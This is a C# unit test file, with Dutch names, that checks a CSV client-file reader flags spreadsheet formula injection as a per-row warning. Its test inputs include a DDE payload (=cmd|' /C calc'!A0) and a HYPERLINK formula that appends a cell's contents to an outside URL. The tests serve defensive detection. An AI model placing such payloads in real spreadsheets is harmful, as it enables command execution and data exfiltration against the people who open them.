using KenJeKlant.Bestand;
using static KenJeKlant.Tests.Bestand.BestandTestHulp;

namespace KenJeKlant.Tests.Bestand;

/// <summary>Values that a spreadsheet would run as a formula: reported, not refused.</summary>
public class BestandLezerWaarschuwingTests
{
    [Theory]
    [InlineData("naam", "=1+1", "Naam begint met '=': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("naam", "+31 6 12345678", "Naam begint met '+': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("naam", "-Jansen", "Naam begint met '-': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("naam", "@Jansen", "Naam begint met '@': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("naam", "  =1+1", "Naam begint met '=': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("naam", "\t=1+1", "Naam begint met '=': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("wijk", "=Noord", "Wijk begint met '=': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("klantnummer", "-1234", "Klantnummer begint met '-': een spreadsheet kan dit als formule uitvoeren")]
    [InlineData("klantmanager", "@KM001", "Klantmanager begint met '@': een spreadsheet kan dit als formule uitvoeren")]
    public async Task EenTekstveldDatAlsFormuleBegintIsEenWaarschuwingOpZijnRegel(string kolom, string waarde, string reden)
    {
        var rijen = await LeesRijenAsync(Csv(';', GeldigeRij("K1"), GeldigeRij("K2").Met(kolom, waarde)));

        Assert.Empty(rijen[0].Waarschuwingen);
        Assert.True(rijen[1].IsGeldig, string.Join("; ", rijen[1].Fouten));
        Assert.Equal(new RijWaarschuwing(3, kolom, reden), Assert.Single(rijen[1].Waarschuwingen));
    }

    [Fact]
    public async Task HetRegelnummerIsDeFysiekeRegelOokNaEenVeldOverMeerdereRegels()
    {
        var tekst =
            "klantnummer;naam;geboortedatum;postcode;huishouden;startdatum_uitkering;klantmanager;wijk\r\n" +
            "K1;Jansen;12-03-1980;2011AB;alleenstaand;01-06-2019;KM001;\"Haarlem\r\nNoord\r\nOost\"\r\n" +
            "\r\n" +
            "K2;=cmd|' /C calc'!A0;12-03-1980;2011AB;alleenstaand;01-06-2019;KM001;@Zuid\r\n";

        var rijen = await LeesRijenAsync(tekst);

        Assert.Equal(6, rijen[1].Regel);
        Assert.Equal([new RijWaarschuwing(6, "naam", "Naam begint met '=': een spreadsheet kan dit als formule uitvoeren"),
            new RijWaarschuwing(6, "wijk", "Wijk begint met '@': een spreadsheet kan dit als formule uitvoeren")],
            rijen[1].Waarschuwingen);
        Assert.True(rijen[1].IsGeldig);
    }

    [Fact]
    public async Task DeWaarschuwingNoemtDeWaardeNiet()
    {
        var rij = await EnigeRijAsync(GeldigeRij().Met("naam", "=HYPERLINK(\"https://example.org/?\"&A2)"));

        var waarschuwing = Assert.Single(rij.Waarschuwingen);
        Assert.DoesNotContain("HYPERLINK", waarschuwing.Reden, StringComparison.Ordinal);
    }

    [Fact]
    public async Task EenRijMetFoutenHoudtZijnWaarschuwingenOokNaDeKruiscontroles()
    {
        var tekst = Csv(';', GeldigeRij("K1"), GeldigeRij("K1").Met("naam", "=1+1").Met("postcode", "nvt"));
        var validatie = new BestandValidatie(new HashSet<string>(StringComparer.Ordinal) { "KM001" });

        var rijen = (await LeesRijenAsync(tekst)).Select(validatie.Controleer).ToList();

        Assert.Equal(["postcode", "klantnummer"], rijen[1].Fouten.Select(f => f.Veld));
        Assert.Equal("naam", Assert.Single(rijen[1].Waarschuwingen).Veld);
    }

    [Fact]
    public async Task GewoneWaardenGevenGeenWaarschuwing()
    {
        var rij = await EnigeRijAsync(GeldigeRij("HLM-2017-00042").Met("naam", "Anna de Vries-Jansen").Met("wijk", "Haarlem-Noord"));

        Assert.Empty(rij.Waarschuwingen);
    }
}
